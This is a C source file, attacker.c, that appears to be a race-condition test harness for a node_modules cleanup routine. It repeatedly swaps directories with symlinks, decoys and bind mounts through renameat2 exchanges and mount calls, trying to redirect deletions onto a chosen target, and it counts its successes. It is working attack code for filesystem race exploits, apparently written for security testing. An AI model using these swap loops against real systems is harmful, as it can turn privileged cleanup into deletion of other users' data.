/* Swaps directories for others, and for symlinks and mounts, as fast as it can.

   attacker inner DIRECTORY PAIRS COUNTER TARGET
                                            in DIRECTORY, each of d0, d1, ... with l0, l1, ..., which
                                            lead to TARGET
   attacker outer DIRECTORY COUNTER         in DIRECTORY, project with elsewhere; in project,
                                            node_modules with decoy and with link, and whatever has a
                                            name that is given to what is being deleted with decoy
   attacker binds DIRECTORY PAIRS COUNTER TARGET
                                            in DIRECTORY, half of d0, d1, ... show TARGET: another one each
                                            time, and one no more

   attacker sticky DIRECTORY PAIRS COUNTER  in DIRECTORY, pool0, pool1, ... with what is named so in pkg of
                                            what has a name that is given to what is being deleted

   It opens the directories as whoever starts it, and then is nobody: it can do what their owner can. But
   for the last of these, as only root may mount: it does what a helper does for a user that mounts where
   they say (fusermount3(1), udisksctl(1)).
   Each swap is one renameat2(2) that exchanges two names, or one mount(2). How many have succeeded is in the
   file COUNTER, a number of 64 bits. It goes on until it is killed, or whoever started it has ended. */

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NOBODY 65534
#define EXCHANGE 2

static volatile uint64_t *count;

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static int exchange(int directory, const char *one, const char *other)
{
    if (syscall(SYS_renameat2, directory, one, directory, other, EXCHANGE))
        return 0;
    ++*count;
    return 1;
}

/* Open what an argument names, and forget that: who names a path is at work there, which keeps it. */
static int open_named(char *path)
{
    int descriptor = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (descriptor < 0)
        fail(path);
    memset(path, '-', strlen(path));
    return descriptor;
}

static int open_directory(int at, const char *path)
{
    int descriptor = openat(at, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (descriptor < 0)
        fail(path);
    return descriptor;
}

static void begin(const char *counter, int as_nobody)
{
    int file = open(counter, O_RDWR);
    if (file < 0)
        fail(counter);
    count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (count == MAP_FAILED)
        fail("mmap");
    if (as_nobody && (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) ||
                      setresuid(NOBODY, NOBODY, NOBODY)))
        fail("setresuid");
    /* After that, which would undo it (prctl(2)). */
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (chdir("/"))
        fail("/");
    puts("ready");
    fflush(stdout);
}

static void attack_inside(int directory, int pairs)
{
    char one[16], other[16];
    for (int i = 0;; i = (i + 1) % pairs) {
        snprintf(one, sizeof one, "d%d", i);
        snprintf(other, sizeof other, "l%d", i);
        exchange(directory, one, other);
    }
}

static void attack_what_is_staged(int project)
{
    DIR *stream = fdopendir(openat(project, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (stream == NULL)
        return;
    for (struct dirent *entry; (entry = readdir(stream)) != NULL;)
        if (strncmp(entry->d_name, ".cleanup-nodemodule-", 20) == 0)
            exchange(project, entry->d_name, "decoy");
    closedir(stream);
}

static void attack_outside(int directory, int project)
{
    static const char *const decoys[] = {"decoy", "link"};
    for (unsigned round = 0;; round++) {
        const char *decoy = decoys[round % 2];
        /* There and back, so that now and then all is as it should be. */
        if (exchange(project, "node_modules", decoy))
            exchange(project, "node_modules", decoy);
        if (exchange(directory, "project", "elsewhere"))
            exchange(directory, "project", "elsewhere");
        if (round % 4 == 0)
            attack_what_is_staged(project);
    }
}

static void attack_by_shared_directories(int project, int pairs)
{
    char pool[16], own[16];
    int pkg = -1;
    for (unsigned round = 0;; round++) {
        /* Only what is out of its project by now: before, it would be seen that it is somebody else's. */
        if (round % 64 == 0) {
            if (pkg >= 0)
                close(pkg);
            pkg = -1;
            DIR *stream = fdopendir(openat(project, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
            for (struct dirent *entry; stream != NULL && (entry = readdir(stream)) != NULL;) {
                char path[PATH_MAX];
                snprintf(path, sizeof path, "%s/pkg", entry->d_name);
                if (pkg < 0 && strncmp(entry->d_name, ".cleanup-nodemodule-", 20) == 0)
                    pkg = openat(project, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            }
            if (stream != NULL)
                closedir(stream);
        }
        for (int i = 0; pkg >= 0 && i < pairs; i++) {
            snprintf(pool, sizeof pool, "pool%d", i);
            snprintf(own, sizeof own, "d%d", i);
            if (syscall(SYS_renameat2, project, pool, pkg, own, EXCHANGE) == 0)
                ++*count;
            else if (renameat(project, pool, pkg, own) == 0)
                ++*count;
            else if (renameat(pkg, own, project, pool) == 0)
                ++*count;
        }
    }
}

static void attack_by_mounting(int directory, int pairs, const char *target)
{
    char name[16];
    /* Paths of one name, so that they lead there wherever the directory is by now. */
    if (fchdir(directory))
        fail("fchdir");
    for (int i = 0;; i = (i + 1) % pairs) {
        snprintf(name, sizeof name, "d%d", i);
        if (mount(target, name, NULL, MS_BIND, NULL) == 0)
            ++*count;
        snprintf(name, sizeof name, "d%d", (i + pairs / 2) % pairs);
        umount2(name, MNT_DETACH); /* If it is a mount by now. */
    }
}

int main(int count_of_arguments, char **arguments)
{
    if (count_of_arguments == 6 && strcmp(arguments[1], "inner") == 0) {
        int directory = open_named(arguments[2]);
        begin(arguments[4], 1);
        attack_inside(directory, atoi(arguments[3]));
    }
    if (count_of_arguments == 4 && strcmp(arguments[1], "outer") == 0) {
        int directory = open_named(arguments[2]);
        int project = open_directory(directory, "project");
        begin(arguments[3], 1);
        attack_outside(directory, project);
    }
    if (count_of_arguments == 5 && strcmp(arguments[1], "sticky") == 0) {
        int project = open_named(arguments[2]);
        begin(arguments[4], 1);
        attack_by_shared_directories(project, atoi(arguments[3]));
    }
    if (count_of_arguments == 6 && strcmp(arguments[1], "binds") == 0) {
        int directory = open_named(arguments[2]);
        begin(arguments[4], 0);
        attack_by_mounting(directory, atoi(arguments[3]), arguments[5]);
    }
    fputs("attacker: see the head of attacker.c\n", stderr);
    return 2;
}
